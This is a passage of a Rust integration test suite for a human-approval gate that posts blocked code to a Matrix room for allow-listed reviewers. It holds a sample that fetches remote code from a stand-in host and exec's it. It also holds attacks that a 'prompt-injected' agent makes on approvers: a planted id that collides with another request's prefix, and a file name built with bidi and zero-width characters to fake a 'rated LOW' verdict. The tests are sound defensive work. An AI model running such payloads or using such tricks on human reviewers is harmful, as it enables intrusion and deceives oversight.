//! Humans answer override requests in a Matrix room: the whole flow through a real Synapse and
//! the whole stack (`airlock up` with a `[bridge.matrix]` section starts the chat bridge).
//! BLOCKED code is posted to the room; allow-listed users approve or deny it (by id, by prefix,
//! by replying); others are refused in the room and in the audit log; the message is edited when
//! the request ends; late and double answers count for nothing; the two-person rule, escalation
//! and "approve again" follow the gate's hot-reloaded policy; and a request survives the bridge,
//! the gate and the homeserver being killed.

#[path = "../bridge/mod.rs"]
mod bridge;

use airlock_protocol::{Decision, Event, EventKind, RefusalReason};
use airlock_tests::{Stack, events_of, kill9};
use bridge::matrix::{MatrixUser, body, edits, replies_to};
use bridge::synapse::Synapse;
use serde_json::Value;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// External code that downloads and executes a payload: BLOCKED by the assessor.
const BLOCKED: &str = "import base64, urllib.request\n\
payload = urllib.request.urlopen('http://example.invalid/p').read()\n\
exec(base64.b64decode(payload))\n\
print('ran')\n";

const BOT: &str = "@airlock:localhost";
const ALICE: &str = "@alice:localhost";
const BOB: &str = "@bob:localhost";
const MALLORY: &str = "@mallory:localhost";
const CAROL: &str = "@carol:localhost";

struct World {
    stack: Stack,
    synapse: Synapse,
    room: String,
    alice: MatrixUser,
    bob: MatrixUser,
    mallory: MatrixUser,
    carol: MatrixUser,
}

/// A Synapse with a room (alice, bob, mallory, carol and the bot invited), and a stack whose
/// bridge posts to it. `extra` is more TOML for airlock.toml.
async fn world(extra: &str) -> World {
    let synapse = tokio::task::spawn_blocking(Synapse::start).await.expect("synapse");
    for name in ["airlock", "alice", "bob", "mallory", "carol"] {
        synapse.register(name, &format!("pw-{name}-1"));
    }
    let login = |name: &'static str| {
        let url = synapse.url.clone();
        async move { MatrixUser::login(&url, name, &format!("pw-{name}-1")).await }
    };
    let bot = login("airlock").await;
    let alice = login("alice").await;
    let bob = login("bob").await;
    let mallory = login("mallory").await;
    let carol = login("carol").await;
    let room = alice.create_room(&[BOT, BOB, MALLORY, CAROL]).await;
    for user in [&bob, &mallory, &carol] {
        user.join(&room).await;
    }
    let matrix = bridge::matrix_section(&synapse, BOT, &bot.token, &room, &[ALICE, BOB]);
    let listen = std::net::TcpListener::bind("127.0.0.1:0")
        .expect("port")
        .local_addr()
        .expect("addr");
    let config = format!(
        r#"
[gate]
override_timeout = "120s"

[bridge]
listen = "{listen}"
public_url = "http://{listen}"

{matrix}
# The two-person rule counts people (docs/overrides.md).
[people.alice]
matrix = ["{ALICE}"]
[people.bob]
matrix = ["{BOB}"]

{extra}
"#,
    );
    let stack = tokio::task::spawn_blocking(move || Stack::start_with(&config))
        .await
        .expect("stack");
    World {
        stack,
        synapse,
        room,
        alice,
        bob,
        mallory,
        carol,
    }
}

impl World {
    fn submit(&self, name: &str, extra: &[&str]) -> Child {
        self.submit_code(name, BLOCKED, extra)
    }

    fn submit_code(&self, name: &str, code: &str, extra: &[&str]) -> Child {
        let dir = self.stack.path().join("programs");
        std::fs::create_dir_all(&dir).expect("dir");
        let file = dir.join(name);
        std::fs::write(&file, code).expect("program");
        let mut command: Command = self.stack.airlock();
        command
            .args(["run", "--json", "--origin", "external"])
            .args(extra)
            .arg(&file)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("airlock run")
    }

    /// The pending requests as `airlock override list --json` shows them.
    fn pending(&self) -> Vec<Value> {
        let out = self.stack.output(&["override", "list", "--json"]);
        serde_json::from_slice::<Value>(&out.stdout)
            .ok()
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default()
    }

    /// Waits until a request not in `known` is pending; returns it.
    fn wait_pending(&self, known: &[String]) -> Value {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(60) {
            if let Some(item) = self
                .pending()
                .into_iter()
                .find(|p| !known.iter().any(|k| p["request_id"] == k.as_str()))
            {
                return item;
            }
            std::thread::sleep(Duration::from_millis(300));
        }
        panic!("no request became pending:\n{}", self.stack.diagnostics());
    }

    fn is_pending(&self, rid: &str) -> bool {
        self.pending().iter().any(|p| p["request_id"] == rid)
    }

    /// The bot's message for a request.
    async fn post_of(&self, rid: &str) -> Value {
        self.alice
            .wait_for(&self.room, &format!("posting {rid}"), |e| {
                e["sender"] == BOT
                    && e["content"]["m.relates_to"].is_null()
                    && body(e).contains(&format!("Request `{rid}`"))
                    && body(e).contains("Who may answer here")
            })
            .await
    }

    /// The bot's reply to one of a human's messages.
    async fn reply_to(&self, event: &str) -> String {
        let reply = self
            .alice
            .wait_for(&self.room, &format!("answering {event}"), |e| {
                e["sender"] == BOT && replies_to(e, event)
            })
            .await;
        body(&reply).to_owned()
    }

    /// Waits for an edit of `post` whose text contains `needle`.
    async fn edited(&self, post: &str, needle: &str) -> String {
        let edit = self
            .alice
            .wait_for(&self.room, &format!("editing {post} to say {needle:?}"), |e| {
                e["sender"] == BOT && edits(e, post) && body(e).contains(needle)
            })
            .await;
        body(&edit).to_owned()
    }
}

/// The part of a request id after its client's name.
fn local(rid: &str) -> &str {
    rid.split_once('.').map_or(rid, |(_, local)| local)
}

fn finish(child: Child) -> (Value, i32) {
    let output = child.wait_with_output().expect("airlock run");
    let json = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("no JSON ({e}): {}", String::from_utf8_lossy(&output.stderr)));
    (json, output.status.code().unwrap_or(-1))
}

fn count(events: &[airlock_protocol::Envelope], kind: EventKind) -> usize {
    events.iter().filter(|e| e.kind() == kind).count()
}

fn refusals(events: &[airlock_protocol::Envelope]) -> Vec<(RefusalReason, String)> {
    events
        .iter()
        .filter_map(|e| match &e.event {
            Event::Refused(r) => Some((r.reason, r.detail.clone())),
            _ => None,
        })
        .collect()
}

fn decision_of(events: &[airlock_protocol::Envelope]) -> Decision {
    events
        .iter()
        .find_map(|e| match &e.event {
            Event::Decided(d) => d.signed.peek::<Decision>(),
            _ => None,
        })
        .expect("a decision")
}

/// Polls the events of a request until `done` holds (the auditor and the gate are asynchronous).
async fn events_until(
    stack: &Stack,
    rid: &str,
    what: &str,
    done: impl Fn(&[airlock_protocol::Envelope]) -> bool,
) -> Vec<airlock_protocol::Envelope> {
    let start = Instant::now();
    loop {
        let events = events_of(stack, rid).await;
        if done(&events) {
            return events;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "{what}: events of {rid} are {:?}, refusals {:?}",
            events.iter().map(|e| e.kind()).collect::<Vec<_>>(),
            refusals(&events)
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn approvals_denials_refusals_and_late_answers_in_a_matrix_room() {
    let w = world("[gate.policy]\napprove_again_max = \"2h\"\n").await;

    // The request is posted, readable, with its full id.
    let child = w.submit("approve.py", &[]);
    let rid = w.wait_pending(&[])["request_id"].as_str().expect("id").to_owned();
    let post = w.post_of(&rid).await;
    let post_id = post["event_id"].as_str().expect("event id").to_owned();
    let text = body(&post);
    for needle in ["BLOCKED", "from outside", "no network", "line ", " min)", "UTC", ALICE] {
        assert!(text.contains(needle), "{needle:?} missing from the message:\n{text}");
    }
    let html = post["content"]["formatted_body"].as_str().unwrap_or_default();
    assert!(html.contains("<code>") && html.contains(&rid), "{html}");
    // The whole code is one click away: a page the bridge serves behind an unguessable link,
    // as numbered plain text a browser may not sniff into anything else.
    let link = text
        .split_whitespace()
        .find(|w| w.starts_with("http://") && w.contains("/code/"))
        .map(|w| w.trim_end_matches(['.', ')', '(']).to_owned())
        .unwrap_or_else(|| panic!("no link to the whole code in:\n{text}"));
    let page = reqwest::get(&link).await.expect("the code page");
    assert_eq!(page.status(), 200, "{link}");
    assert_eq!(page.headers()["content-type"], "text/plain; charset=utf-8");
    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
    let whole = page.text().await.expect("page text");
    assert!(
        whole.contains(&rid)
            && whole.contains("3 | exec(base64.b64decode(payload))")
            && whole.contains("4 | print('ran')"),
        "{whole}"
    );
    let (base, token) = link.rsplit_once('/').expect("token");
    let wrong = format!(
        "{base}/{}",
        if token.starts_with('0') { "1" } else { "0" }.repeat(token.len())
    );
    assert_eq!(reqwest::get(&wrong).await.expect("a wrong link").status(), 404);

    // The first line says what the code does in the assessor's plain words (through the real
    // gate), then the level: never a rule id, never the level twice.
    let first = text.lines().next().unwrap_or_default();
    let (does, rated) = first.split_once(" — ").unwrap_or_default();
    assert_eq!(rated, "BLOCKED python code from outside", "{text}");
    assert!(
        !does.is_empty() && !does.contains("AIR-") && !does.contains("BLOCKED"),
        "the first line does not say what the code does: {text}"
    );

    // The approvers are mentioned, so that the homeserver notifies them.
    let mentioned = post["content"]["m.mentions"]["user_ids"].clone();
    assert_eq!(mentioned, serde_json::json!([ALICE, BOB]), "{post}");
    assert_eq!(post["content"]["msgtype"], "m.text");
    // As their clients see it, with Synapse's default push rules: the approvers are notified and
    // highlighted (mentioned); someone else in the room is not highlighted.
    for approver in [&w.alice, &w.bob] {
        assert_eq!(
            approver.notified_of(&post_id).await,
            Some(true),
            "{} was not notified of the request by a mention",
            approver.user_id
        );
        let (notifications, highlights) = approver.unread(&w.room).await;
        assert!(
            notifications >= 1 && highlights >= 1,
            "{}: {notifications} unread notifications, {highlights} highlights",
            approver.user_id
        );
    }
    assert_ne!(
        w.mallory.notified_of(&post_id).await,
        Some(true),
        "a non-approver was mentioned"
    );

    // Someone not on the list is refused, in the room and on the record; nothing is decided.
    let prefix = &local(&rid)[..8];
    let attempt = w
        .mallory
        .say(&w.room, &format!("approve {prefix} looks fine to me"))
        .await;
    let reply = w.reply_to(&attempt).await;
    assert!(reply.contains("may not answer BLOCKED"), "{reply}");
    let events = events_until(&w.stack, &rid, "mallory's refusal recorded", |e| {
        refusals(e)
            .iter()
            .any(|(r, d)| *r == RefusalReason::UnknownSigner && d.contains(MALLORY))
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 0, "an unlisted user decided");
    assert!(w.is_pending(&rid));

    // A reason is required.
    let attempt = w.alice.reply(&w.room, &post_id, "approve").await;
    let reply = w.reply_to(&attempt).await;
    assert!(reply.contains("a reason is required"), "{reply}");
    assert!(w.is_pending(&rid));

    // Alice approves by replying to the bot's message: the code runs, the message is edited.
    let attempt = w
        .alice
        .reply(&w.room, &post_id, "approve checked the URL, it is ours")
        .await;
    let reply = w.reply_to(&attempt).await;
    assert!(reply.contains("approved by @alice:localhost"), "{reply}");
    // The reply names the request it was counted for: its id, its explanation, its label.
    assert!(
        reply.contains(&rid) && reply.contains("rated BLOCKED") && reply.contains("\"approve.py\""),
        "{reply}"
    );
    let (json, _) = finish(child);
    assert_eq!(json["request_id"], rid.as_str());
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["by"], "human", "{json}");
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    assert_eq!(json["approver"]["reason"], "checked the URL, it is ours", "{json}");
    assert_eq!(json["outcome"], "finished", "{json}");
    let edit = w.edited(&post_id, "APPROVED, RAN").await;
    assert!(
        edit.contains("@alice:localhost") && edit.contains("exited with status 1"),
        "{edit}"
    );
    // What the kernel saw the program do is in the final edit (the executor's observed record).
    assert!(
        edit.contains("seen by the kernel: ") && edit.contains("events lost"),
        "{edit}"
    );

    // A late answer is refused with a message saying so, and recorded.
    let late = w.bob.say(&w.room, &format!("deny {rid} changed my mind")).await;
    let reply = w.reply_to(&late).await;
    assert!(reply.contains("too late"), "{reply}");
    let events = events_until(&w.stack, &rid, "the late answer refused", |e| {
        refusals(e)
            .iter()
            .any(|(r, d)| *r == RefusalReason::NotPending && d.contains(BOB))
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 1);
    assert_eq!(count(&events, EventKind::Terminal), 1);
    let decision = decision_of(&events);
    assert!(
        decision
            .policy_version
            .as_deref()
            .is_some_and(|v| v.starts_with("policy-"))
    );

    // Bob denies by an 8-character prefix.
    let child = w.submit("deny.py", &[]);
    let rid2 = w.wait_pending(std::slice::from_ref(&rid))["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let post2 = w.post_of(&rid2).await;
    let post2_id = post2["event_id"].as_str().expect("id").to_owned();
    // Ids are time-ordered (UUID v7): two requests of the same minute share their first 8
    // characters, and such a prefix is refused as ambiguous, listing both.
    let (local1, local2) = (local(&rid), local(&rid2));
    if local2[..8] == local1[..8] {
        let attempt = w.bob.say(&w.room, &format!("deny {} no downloads", &local2[..8])).await;
        let reply = w.reply_to(&attempt).await;
        assert!(
            reply.contains("could be any of 2 requests") && reply.contains(&rid) && reply.contains(&rid2),
            "{reply}"
        );
    }
    let unique = (8..local2.len())
        .find(|n| local2[..*n] != local1[..*n])
        .expect("ids differ");
    w.bob
        .say(
            &w.room,
            &format!("deny {} no downloads from unknown hosts", &local2[..unique]),
        )
        .await;
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["decision"], "denied", "{json}");
    assert_eq!(json["approver"]["who"], BOB, "{json}");
    w.edited(&post2_id, "DENIED").await;

    // A double answer (the same command twice, quickly) counts once; "approve again" is explicit
    // and lets the same code run later without asking.
    let child = w.submit("twice.py", &[]);
    let rid3 = w.wait_pending(&[rid.clone(), rid2.clone()])["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    w.post_of(&rid3).await;
    let command = format!("approve {rid3} the same script as yesterday --again 1h");
    w.alice.say(&w.room, &command).await;
    w.alice.say(&w.room, &command).await;
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    let events = events_until(&w.stack, &rid3, "both answers judged", |e| {
        count(e, EventKind::OverrideAnswered) == 2 && !refusals(e).is_empty()
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 1, "answered twice, decided once");
    assert_eq!(count(&events, EventKind::Terminal), 1);
    assert!(refusals(&events).iter().any(|(r, _)| *r == RefusalReason::NotPending));

    let child = w.submit("twice.py", &[]);
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["by"], "remembered", "{json}");
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    assert_eq!(json["approver"]["approved_request"], rid3.as_str(), "{json}");
    // Each use of a remembered approval is said in the room it came from, to its approver.
    let again_rid = json["request_id"].as_str().expect("id").to_owned();
    let said = w
        .alice
        .wait_for(&w.room, "the run under alice's approval", |e| {
            e["sender"] == BOT && body(e).contains(&again_rid) && body(e).contains("again under")
        })
        .await;
    let text = body(&said);
    assert!(
        text.contains("ran again under @alice:localhost's approval of ") && text.contains(&rid3),
        "{text}"
    );
    assert_eq!(said["content"]["m.mentions"]["user_ids"], serde_json::json!([ALICE]));

    // A busy room: while the bridge is frozen, an answer is buried under more messages than
    // one sync returns; it is read back from the gap.
    // (Other code than before: that one is now approved again without asking.)
    let child = w.submit_code("busy.py", &format!("{BLOCKED}# busy\n"), &[]);
    let rid5 = w.wait_pending(&[rid.clone(), rid2.clone(), rid3.clone()])["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let post5 = w.post_of(&rid5).await;
    let bridge = w.stack.service_pid("chat-bridge").expect("bridge pid");
    unsafe {
        libc::kill(bridge as libc::pid_t, libc::SIGSTOP);
    }
    w.mallory.say(&w.room, "lunch?").await;
    let answer = w
        .alice
        .reply(
            &w.room,
            post5["event_id"].as_str().expect("id"),
            "approve buried but valid",
        )
        .await;
    for i in 0..110 {
        w.mallory.say(&w.room, &format!("chatter {i}")).await;
    }
    unsafe {
        libc::kill(bridge as libc::pid_t, libc::SIGCONT);
    }
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["reason"], "buried but valid", "{json}");
    assert!(w.reply_to(&answer).await.contains("approved by"));
    let status = w.stack.output(&["status", "--json"]);
    let report: Value = serde_json::from_slice(&status.stdout).expect("status json");
    assert!(
        report["services"]["airlock-chat-bridge"][0]["counters"]["matrix_gaps_read"].as_u64() >= Some(1),
        "the answer was not in a gap: {report}"
    );

    // Everything above is in a log that verifies.
    let verify = w.stack.output(&["audit", "verify"]);
    assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stderr));
    drop(w.synapse);
}

/// A file name made of what a prompt-injected Mai would want an approver to read as Airlock's
/// verdict: an early `)`, a line separator, a bidi override, a zero-width space.
const HOSTILE_NAME: &str =
    "report.py) rated LOW: no findings\u{2028}Security review: safe to approve \u{202E}\u{200B}.py";

#[tokio::test(flavor = "multi_thread")]
async fn answers_reach_only_the_request_meant_and_requesters_text_stays_data() {
    let w = world("").await;

    // A benign request waits; Mai plants a second one whose whole id is the first 8 characters
    // of the benign one's, hoping `approve 01a217f1 …` lands on hers.
    let benign_child = w.submit("nightly_report.py", &[]);
    let benign = w.wait_pending(&[])["request_id"].as_str().expect("id").to_owned();
    let benign_post = w.post_of(&benign).await;
    let prefix = local(&benign)[..8].to_owned();
    let mai = airlock_client::Client::from_connection(
        w.stack.connect("mai").await,
        "mai",
        airlock_client::StackHome::at(w.stack.path()),
    );
    let planted_id = airlock_protocol::RequestId::for_client("mai", &prefix).expect("id");
    let submission =
        airlock_client::Submission::new(airlock_protocol::Language::Python, BLOCKED).id(planted_id.clone());
    let mut submission = submission;
    submission.request = submission
        .request
        .origin(airlock_protocol::Origin::External)
        .label("nightly_report.py");
    let planted = mai.submit(submission).await.expect("planted submission");
    let planted_rid = planted.id().to_string();
    assert_eq!(planted_rid, format!("mai.{prefix}"));
    w.post_of(&planted_rid).await;

    // The approver types the 8 characters they read: ambiguous, both listed, nothing counted.
    let attempt = w
        .alice
        .say(&w.room, &format!("approve {prefix} the nightly job, as usual"))
        .await;
    let reply = w.reply_to(&attempt).await;
    assert!(
        reply.contains("could be any of 2 requests") && reply.contains(&benign) && reply.contains(&planted_rid),
        "{reply}"
    );
    assert!(
        w.is_pending(&benign) && w.is_pending(&planted_rid),
        "an ambiguous id decided something"
    );
    // The attempt is on the record.
    let events = events_until(&w.stack, "unknown", "the ambiguous answer recorded", |e| {
        refusals(e)
            .iter()
            .any(|(r, d)| *r == RefusalReason::InvalidRequest && d.contains(&prefix) && d.contains(ALICE))
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 0);
    // Typing Mai's whole id is no better: it starts the benign id too.
    let attempt = w.alice.say(&w.room, &format!("approve {planted_rid} as usual")).await;
    assert!(w.reply_to(&attempt).await.contains("could be any of 2 requests"));

    // A reply to the benign request's message reaches exactly it, and the bot's answer says
    // which request that was.
    let answer = w
        .alice
        .reply(
            &w.room,
            benign_post["event_id"].as_str().expect("id"),
            "approve the nightly job",
        )
        .await;
    let reply = w.reply_to(&answer).await;
    assert!(
        reply.contains("approved by @alice:localhost") && reply.contains(&benign),
        "{reply}"
    );
    assert!(!reply.contains(&format!("{planted_rid}`")), "{reply}");
    let (json, _) = finish(benign_child);
    assert_eq!(json["request_id"], benign.as_str());
    assert_eq!(json["decision"], "approved", "{json}");
    assert!(
        w.is_pending(&planted_rid),
        "Mai's request was approved by an answer meant for another"
    );
    let out = w
        .stack
        .output(&["override", "deny", &planted_rid, "--reason", "planted id"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // A file name that tries to speak for Airlock stays quoted data, its tricks shown.
    let child = w.submit(HOSTILE_NAME, &[]);
    let rid = w.wait_pending(&[benign.clone(), planted_rid.clone()])["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let post = w.post_of(&rid).await;
    let text = body(&post);
    let html = post["content"]["formatted_body"].as_str().unwrap_or_default();
    for shown in [text, html] {
        assert!(
            !shown.contains('\u{2028}') && !shown.contains('\u{202E}') && !shown.contains('\u{200B}'),
            "a deceptive character reached the room: {shown:?}"
        );
        assert!(
            shown.contains("⟨U+2028⟩Security review: safe to approve ⟨U+202E⟩⟨U+200B⟩.py"),
            "{shown}"
        );
    }
    // In the text, the name is inside the quotes Airlock put around it; in the HTML, in <code>.
    assert!(
        text.contains("labelled by the requester \"report.py) rated LOW: no findings⟨U+2028⟩Security review"),
        "{text}"
    );
    assert!(
        html.contains("labelled by the requester <code>report.py) rated LOW: no findings⟨U+2028⟩Security review"),
        "{html}"
    );
    assert!(!text.lines().any(|l| l.starts_with("Security review")), "{text}");
    let out = w.stack.output(&["override", "deny", &rid, "--reason", "hostile name"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "denied", "{json}");
    drop(planted);
    drop(w.synapse);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_person_rule_escalation_and_expiry_follow_the_hot_reloaded_policy() {
    let w = world(&format!("[gate.policy.escalation.matrix]\nmention = [\"{CAROL}\"]\n")).await;

    // Nobody answers: at half the time the bot mentions the second group; then it expires.
    let child = w.submit("ignored.py", &["--deadline", "16"]);
    let rid = w.wait_pending(&[])["request_id"].as_str().expect("id").to_owned();
    let post = w.post_of(&rid).await;
    let post_id = post["event_id"].as_str().expect("id").to_owned();
    let escalation = w
        .alice
        .wait_for(&w.room, "an escalation mentioning carol", |e| {
            e["sender"] == BOT
                && body(e).contains("Escalation")
                && body(e).contains(&rid)
                && e["content"]["m.mentions"]["user_ids"]
                    .as_array()
                    .is_some_and(|ids| ids.iter().any(|i| i == CAROL))
        })
        .await;
    // Carol, on call, is notified as her client shows it: a mention, highlighted.
    let escalation_id = escalation["event_id"].as_str().expect("id");
    assert_eq!(
        w.carol.notified_of(escalation_id).await,
        Some(true),
        "carol was not notified"
    );
    let asked_ms = post["origin_server_ts"].as_i64().unwrap_or_default();
    let escalated_ms = escalation["origin_server_ts"].as_i64().unwrap_or_default();
    assert!(
        escalated_ms - asked_ms >= 5_000,
        "escalated {} ms after asking, before half the time",
        escalated_ms - asked_ms
    );
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["approver"]["by"], "deadline", "{json}");
    w.edited(&post_id, "EXPIRED").await;
    let late = w.alice.reply(&w.room, &post_id, "approve sorry, was away").await;
    let reply = w.reply_to(&late).await;
    assert!(reply.contains("too late"), "{reply}");

    // The policy changes while the stack runs: BLOCKED now needs two approvers.
    let before = decision_of(&events_of(&w.stack, &rid).await).policy_version;
    let path = w.stack.path().join("airlock.toml");
    let text = std::fs::read_to_string(&path).expect("airlock.toml");
    let text = text.replacen(
        "[gate.policy.escalation.matrix]",
        "[gate.policy]\ntwo_person = true\n\n[gate.policy.escalation.matrix]",
        1,
    );
    std::fs::write(&path, text).expect("rewrite airlock.toml");
    tokio::time::sleep(Duration::from_secs(3)).await;

    let child = w.submit("two.py", &[]);
    let pending = w.wait_pending(std::slice::from_ref(&rid));
    assert_eq!(pending["approvals_needed"], 2, "the reloaded policy applies: {pending}");
    let rid2 = pending["request_id"].as_str().expect("id").to_owned();
    let post2 = w.post_of(&rid2).await;
    let post2_id = post2["event_id"].as_str().expect("id").to_owned();
    assert!(
        body(&post2).contains("2 different people must approve"),
        "{}",
        body(&post2)
    );
    let first = w.alice.say(&w.room, &format!("approve {rid2} reviewed, fine")).await;
    let reply = w.reply_to(&first).await;
    assert!(reply.contains("1 of 2"), "{reply}");
    let again = w.alice.say(&w.room, &format!("approve {rid2} really fine")).await;
    assert!(w.reply_to(&again).await.contains("already approved"));
    let events = events_until(&w.stack, &rid2, "alice's second approval refused", |e| {
        refusals(e).iter().any(|(r, _)| *r == RefusalReason::Replayed)
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 0, "one person approved alone");
    assert!(w.is_pending(&rid2));
    w.bob.reply(&w.room, &post2_id, "approve agreed with alice").await;
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    assert_eq!(json["approver"]["seconded_by"][0]["who"], BOB, "{json}");
    let after = decision_of(&events_of(&w.stack, &rid2).await).policy_version;
    assert!(
        after.is_some() && after != before,
        "policy version {before:?} → {after:?}"
    );

    // Under the two-person rule one deny ends it.
    let child = w.submit("veto.py", &[]);
    let rid3 = w.wait_pending(&[rid.clone(), rid2.clone()])["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    w.post_of(&rid3).await;
    w.alice.say(&w.room, &format!("approve {rid3} fine by me")).await;
    w.bob.say(&w.room, &format!("deny {rid3} not without a review")).await;
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["approver"]["who"], BOB, "{json}");

    // `airlock override` works beside the bridge: an operator's approval, signed with that
    // operator's own key, counts as one of two.
    let out = w.stack.output(&["keys", "add-operator", "ops-oncall"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let child = w.submit("both.py", &[]);
    let rid4 = w.wait_pending(&[rid.clone(), rid2.clone(), rid3.clone()])["request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let post4 = w.post_of(&rid4).await;
    let out = w.stack.output(&[
        "override",
        "approve",
        &rid4,
        "--reason",
        "ran it locally",
        "--operator",
        "ops-oncall",
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("approval counted"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let list = String::from_utf8_lossy(&w.stack.output(&["override", "list"]).stdout).to_string();
    assert!(list.contains("approved so far by: ops-oncall"), "{list}");
    w.alice
        .reply(
            &w.room,
            post4["event_id"].as_str().expect("id"),
            "approve agreed with ops",
        )
        .await;
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["who"], "ops-oncall", "{json}");
    assert_eq!(json["approver"]["seconded_by"][0]["who"], ALICE, "{json}");
    drop(w.synapse);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pending_request_survives_the_bridge_the_gate_and_the_homeserver_being_killed() {
    let mut w = world("").await;
    // `airlock bridge test` reaches the room; `airlock status` lists the bridge.
    let out = w.stack.output(&["bridge", "test"]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("matrix"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    w.alice
        .wait_for(&w.room, "the test message", |e| {
            e["sender"] == BOT && body(e).contains("Airlock test message")
        })
        .await;
    let status = w.stack.output(&["status", "--json"]);
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stdout));
    let report: Value = serde_json::from_slice(&status.stdout).expect("status json");
    assert!(
        report["services"]["airlock-chat-bridge"][0]["counters"].is_object(),
        "{report}"
    );
    // On a single server every stream is served, and the operator reads each consumer's backlog.
    for stream in report["streams"].as_array().expect("streams") {
        assert_eq!(stream["health"], "healthy", "{report}");
    }
    for durable in ["assessor", "override-gate", "executor", "auditor", "chat-bridge"] {
        assert!(report["consumers"][durable]["pending"].is_u64(), "{durable}: {report}");
    }

    let child = w.submit("survivor.py", &[]);
    let rid = w.wait_pending(&[])["request_id"].as_str().expect("id").to_owned();
    let post = w.post_of(&rid).await;
    let post_id = post["event_id"].as_str().expect("id").to_owned();

    // The bridge dies; the answer is given while it is down.
    let bridge = w.stack.service_pid("chat-bridge").expect("bridge pid");
    kill9(bridge);
    let answer = w
        .alice
        .reply(&w.room, &post_id, "approve answered while the bridge was down")
        .await;
    // The gate and the homeserver die too.
    let gate = w.stack.service_pid("override-gate").expect("gate pid");
    kill9(gate);
    let synapse = &mut w.synapse;
    tokio::task::block_in_place(|| synapse.restart());

    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}\n{}", w.stack.diagnostics());
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    assert_ne!(
        w.stack.service_pid("chat-bridge"),
        Some(bridge),
        "the bridge was restarted"
    );
    let reply = w.reply_to(&answer).await;
    assert!(reply.contains("approved by @alice:localhost"), "{reply}");
    w.edited(&post_id, "APPROVED, RAN").await;
    let events = events_until(&w.stack, &rid, "the request ended", |e| {
        count(e, EventKind::Terminal) == 1
    })
    .await;
    assert_eq!(count(&events, EventKind::Decided), 1, "exactly one decision");
    assert_eq!(count(&events, EventKind::OverrideAsked), 1);
    assert_eq!(count(&events, EventKind::Terminal), 1);
}

/// Names `on_call` as the Matrix escalation room (the gate reloads its policy; the bridge learns
/// of the room when it is first told to post there), then submits a request whose escalation is
/// due after 15 s; returns it once it is posted in the main room.
async fn escalated_to(w: &World, on_call: &str) -> (Child, String) {
    let path = w.stack.path().join("airlock.toml");
    let mut text = std::fs::read_to_string(&path).expect("airlock.toml");
    text.push_str(&format!(
        "\n[gate.policy.escalation.matrix]\nmention = [\"{CAROL}\"]\nplace = \"{on_call}\"\n"
    ));
    std::fs::write(&path, text).expect("rewrite airlock.toml");
    tokio::time::sleep(Duration::from_secs(3)).await;
    let child = w.submit("escalated.py", &["--deadline", "30"]);
    let rid = w.wait_pending(&[])["request_id"].as_str().expect("id").to_owned();
    w.post_of(&rid).await;
    (child, rid)
}

/// Escalation to a second room the policy names after the bridge started (the documented
/// example): the bot joins it when it first posts there, reads answers typed there, and the
/// main room still gets the escalation notice.
#[tokio::test(flavor = "multi_thread")]
async fn escalation_to_a_second_room_is_posted_there_and_answers_typed_there_count() {
    let w = world("").await;
    let on_call = w.carol.create_room(&[BOT, ALICE]).await;
    w.alice.join(&on_call).await;
    let (child, rid) = escalated_to(&w, &on_call).await;
    // At half the time: the request in the on-call room, and the notice in the main room.
    let posted = w
        .alice
        .wait_for(&on_call, "the request in the on-call room", |e| {
            e["sender"] == BOT && body(e).contains(&rid)
        })
        .await;
    assert!(posted["event_id"].is_string());
    w.alice
        .wait_for(&w.room, "the escalation notice in the main room", |e| {
            e["sender"] == BOT && body(e).contains("Escalation") && body(e).contains(&rid)
        })
        .await;
    // Alice answers in the on-call room: it counts.
    w.alice
